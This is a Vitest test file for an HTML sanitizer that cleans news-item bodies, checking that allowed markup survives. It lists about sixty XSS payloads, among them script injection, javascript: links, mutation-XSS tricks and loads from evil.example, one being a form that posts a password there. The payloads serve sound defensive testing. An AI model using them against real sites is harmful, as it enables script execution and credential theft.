import { describe, expect, test } from 'vitest';
import { cleanBody } from './clean-body.ts';

const own = `/db/WC/2022/news-images/${'a'.repeat(43)}`;

describe('the body of a news item', () => {
  test.each([
    ['headings, text and lists', '<h2>Day 1</h2><p>Qatar <strong>v</strong> <em>Ecuador</em></p><ul><li>a</li></ul>'],
    ['quotes and rules', '<blockquote><p>I had it.</p></blockquote><hr />'],
    ['a picture of our own', `<img src="${own}" alt="The pitch" />`],
    ['numbered lists that go on', '<ol start="3"><li>c</li></ol>'],
  ])('stays unchanged: %s', (_, body) => expect(cleanBody(body)).toBe(body));

  test.each([
    ['other headings become ours', '<h1>a</h1><h5>b</h5>', '<h2>a</h2><h3>b</h3>'],
    ['old tags become ours', '<b>a</b><i>b</i>', '<strong>a</strong><em>b</em>'],
    [
      'links open nothing of ours',
      '<a href="https://example.org/x">y</a>',
      '<a href="https://example.org/x" rel="noopener noreferrer nofollow">y</a>',
    ],
    [
      'links to our own pages stay',
      '<a href="/leaderboard">y</a>',
      '<a href="/leaderboard" rel="noopener noreferrer nofollow">y</a>',
    ],
    ['unclosed tags are closed', '<p>a<strong>b<ul><li>c', '<p>a<strong>b<ul><li>c</li></ul></strong></p>'],
    ['text that looks like a tag stays text', '<p>2 < 3 & 4 > 1</p>', '<p>2 &lt; 3 &amp; 4 &gt; 1</p>'],
    ['styles and classes go', '<p style="position:fixed" class="x" id="y" onclick="z()">a</p>', '<p>a</p>'],
  ])('is corrected: %s', (_, body, cleaned) => expect(cleanBody(body)).toBe(cleaned));
});

/** Known ways to run a script, to load something from elsewhere, or to change the surrounding page. None may survive. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  `<img src="${own}" onload=alert(1)>`,
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example/x 1x">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x onclick=alert(1)>x</x>',
  '<p id="root">x</p><p name="cookie">x</p>',
  '<template><script>alert(1)</script></template>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>',
  '<img\u000bsrc=x\u000conerror=alert(1)>',
  '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
];

describe('a cleaned body runs nothing, embeds nothing and calls no other site:', () => {
  const allowedTag =
    /^<\/?(?:h2|h3|p|br|hr|ul|ol|li|blockquote|strong|em|s|u|code|pre|a|img|figure|figcaption)(?:\s[^>]*)?\/?>$/;
  const allowedAttribute =
    /^(?:href="(?:https?:|mailto:|\/(?![/\\]))[^"]*"|rel="noopener noreferrer nofollow"|src="\/db\/[^"]*"|alt="[^"]*"|width="[^"]*"|height="[^"]*"|start="[^"]*")$/;

  test.each(vectors)('%s', (vector) => {
    const cleaned = cleanBody(`<p>before</p>${vector}<p>after</p>`);
    for (const [tag] of cleaned.matchAll(/<[^>]*>/g)) {
      expect(tag).toMatch(allowedTag);
      const attributes = tag.match(/[a-z-]+="[^"]*"/g) ?? [];
      for (const attribute of attributes) expect(attribute).toMatch(allowedAttribute);
      expect(tag.replaceAll(/[a-z-]+="[^"]*"/g, '')).toMatch(/^<\/?\w+\s*\/?>$/);
    }
    expect(cleanBody(cleaned)).toBe(cleaned);
  });

  test('even if it is nested ten thousand levels deep', () => {
    expect(cleanBody('<div>'.repeat(10_000))).not.toMatch(/<div/);
    // Elements that are nested deeper than anybody writes lose their tags and keep their text.
    const cleaned = cleanBody(`${'<blockquote>'.repeat(10_000)}deep${'</blockquote>'.repeat(10_000)}`);
    expect(cleaned).toMatch(/^(<blockquote>){1,40}deep(<\/blockquote>){1,40}$/);
  });
});
